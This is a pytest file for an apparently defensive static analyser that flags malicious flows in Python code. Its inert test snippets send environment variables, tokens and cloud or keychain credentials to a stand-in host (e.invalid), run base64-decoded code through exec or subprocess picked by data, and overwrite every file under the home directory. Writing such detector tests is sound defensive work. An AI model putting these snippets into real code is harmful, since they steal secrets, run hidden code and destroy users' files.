"""Clients made once, credentials that libraries find, functions picked by data, and iterators. All of it inert text."""

from __future__ import annotations

import pytest

from adapters.sigil.local.code.facts import Behaviour
from adapters.sigil.local.code.python import python_facts


def ways(code: str) -> set[tuple[Behaviour, Behaviour, str]]:
    facts = python_facts("package/__init__.py", code.encode())
    return {(flow.source.behaviour, flow.sink.behaviour, flow.sink.detail) for flow in facts.flows}


@pytest.mark.parametrize(
    ("code", "address"),
    [
        ("c = httpx.Client(base_url='https://e.invalid/')\nc.post('/x', json=dict(os.environ))", "https://e.invalid/x"),
        (
            (
                "class A:\n    def __init__(self, b):\n        self.c = httpx.Client(base_url=b)\n"
                "    def go(self, d):\n        self.c.post('x', json=d)\nA('https://e.invalid').go(dict(os.environ))"
            ),
            "https://e.invalid/x",
        ),
        (
            "with httpx.Client(base_url='https://e.invalid') as c:\n    c.get('/x', params=dict(os.environ))",
            "https://e.invalid/x",
        ),
        (
            (
                "async def m():\n    async with aiohttp.ClientSession('https://e.invalid') as s:\n"
                "        await s.post('/x', data=dict(os.environ))"
            ),
            "https://e.invalid/x",
        ),
        (
            (
                "from requests_toolbelt.sessions import BaseUrlSession\ns = BaseUrlSession('https://e.invalid')\n"
                "s.post('/x', data=dict(os.environ))"
            ),
            "https://e.invalid/x",
        ),
        (
            (
                "import urllib3\ns = urllib3.connection_from_url('https://e.invalid')\n"
                "s.request('POST', '/x', body=str(os.environ))"
            ),
            "https://e.invalid/x",
        ),
        (
            "import websocket\ns = websocket.create_connection('wss://e.invalid/x')\ns.send(str(os.environ))",
            "wss://e.invalid/x",
        ),
        (
            (
                "import websockets\nasync def m():\n    async with websockets.connect('wss://e.invalid/x') as s:\n"
                "        await s.send(str(os.environ))"
            ),
            "wss://e.invalid/x",
        ),
        (
            "s = requests.Session()\ns.headers.update({'a': os.environ['X_TOKEN']})\ns.get('https://e.invalid/')",
            "https://e.invalid/",
        ),
        (
            "s = requests.Session()\ns.headers['a'] = os.environ['X_TOKEN']\ns.post('https://e.invalid/')",
            "https://e.invalid/",
        ),
        (
            "s = requests.Session()\ns.auth = ('a', os.environ['X_TOKEN'])\ns.post('https://e.invalid/')",
            "https://e.invalid/",
        ),
    ],
)
def test_clients_know_where_they_speak_to_and_what_they_carry(code: str, address: str) -> None:
    """A client that is made with an address sends below it, with all that it was given to take along."""
    found = ways(f"import os, httpx, requests, aiohttp\n{code}\n")
    assert found == {(Behaviour.READS_ENVIRONMENT, Behaviour.SENDS, address)}


@pytest.mark.parametrize(
    "code",
    [
        "import boto3\nfound = boto3.Session().get_credentials().get_frozen_credentials()",
        "import botocore.session\nfound = botocore.session.get_session().get_credentials()",
        "import google.auth\nfound, project = google.auth.default()",
        "from azure.identity import DefaultAzureCredential\nfound = DefaultAzureCredential().get_token('x')",
        "import keyring\nfound = keyring.get_password('a', 'b')",
    ],
)
def test_credentials_that_a_library_finds(code: str) -> None:
    """What a cloud's library or the system's keychain hands out is a secret wherever it is sent."""
    sent = ways(f"import requests\n{code}\nrequests.post('https://e.invalid/', json={{'a': found.secret}})\n")
    assert sent == {(Behaviour.READS_SECRET_FILE, Behaviour.SENDS, "https://e.invalid/")}


@pytest.mark.parametrize(
    ("code", "sink"),
    [
        ("T = {'n': print, 'r': exec}\ndef go(k, t):\n    T[k](base64.b64decode(t))", Behaviour.RUNS_CODE),
        ("T = {'n': print, 'r': exec}\ndef go(k, t):\n    T.get(k)(base64.b64decode(t))", Behaviour.RUNS_CODE),
        ("run = exec\ndef go(k, t):\n    globals()[k](base64.b64decode(t))", Behaviour.RUNS_CODE),
        ("import os\ndef go(k, t):\n    getattr(os, k)(base64.b64decode(t))", Behaviour.RUNS_SHELL),
        ("import subprocess\ndef go(k, t):\n    getattr(subprocess, k)(base64.b64decode(t))", Behaviour.RUNS_SHELL),
    ],
)
def test_functions_picked_by_data(code: str, sink: Behaviour) -> None:
    """A function that is picked by data, from a table or a module, may be the one that runs code."""
    assert {way[:2] for way in ways(f"import base64\n{code}\n")} == {(Behaviour.DECODES, sink)}


@pytest.mark.parametrize(
    "code",
    [
        "T = {'n': print}\ndef go(k, t):\n    T[k](base64.b64decode(t))",
        "def show(x):\n    print(x)\nT = {'n': show}\ndef go(k, t):\n    T[k](base64.b64decode(t))",
    ],
)
def test_tables_without_anything_that_runs_code(code: str) -> None:
    """A table of functions that run nothing is no fact."""
    assert ways(f"import base64\n{code}\n") == set()


_WALKS = (
    "rest = [self.root]\n        while rest:\n            found = rest.pop()\n            for e in found.iterdir():"
)


@pytest.mark.parametrize(
    "handing",
    [
        f"def __iter__(self):\n        {_WALKS}\n                yield e",
        "def __iter__(self):\n        yield from self.a()\n    def a(self):\n        yield from self.root.iterdir()",
        "def __iter__(self):\n        return self\n    def __next__(self):\n        return next(self.root.iterdir())",
        "def __iter__(self):\n        return iter(list(self.root.iterdir()))",
    ],
)
def test_iterators_of_classes(handing: str) -> None:
    """A loop over an object goes over what its class hands out, however it does that, in a function too."""
    made = (
        f"from pathlib import Path\nclass S:\n    def __init__(self, root):\n        self.root = root\n    {handing}\n"
    )
    found = ways(f"{made}def go():\n    for e in S(Path.home()):\n        e.write_bytes(b'')\ngo()\n")
    assert (Behaviour.LISTS_FILES, Behaviour.RUINS_FILES, "~/{file}") in found
